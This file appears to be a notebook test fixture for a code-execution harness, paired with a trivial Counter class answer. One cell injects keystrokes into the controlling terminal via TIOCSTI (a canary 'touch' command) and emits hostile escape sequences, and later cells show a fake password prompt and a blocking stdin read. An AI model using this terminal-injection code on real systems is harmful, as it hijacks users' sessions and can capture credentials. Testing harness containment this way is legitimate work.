# %% [markdown] keeps={"03_counter-sums": 20} honest={"03_counter-sums": 20} says="norm"
# A cell waits for the keyboard, and steers the terminal.

# %%
import fcntl
import os
import sys
import termios

for path in ("/dev/tty", "/dev/console", "/proc/self/fd/0", "/dev/stdin"):
    try:
        descriptor = os.open(path, os.O_RDWR | os.O_NONBLOCK)
        for character in b"touch @CANARY@\n":
            fcntl.ioctl(descriptor, termios.TIOCSTI, bytes([character]))
    except OSError:
        pass
print("\x1b]0;owned\x07\x1b[2J\x1b[5i")

# %%
input("password: ")

# %%
sys.stdin.read()


# %% answer="03_counter"
class Counter:
    def __init__(self):
        self.total = 0.0

    def add(self, n):
        self.total += n
        return self.total
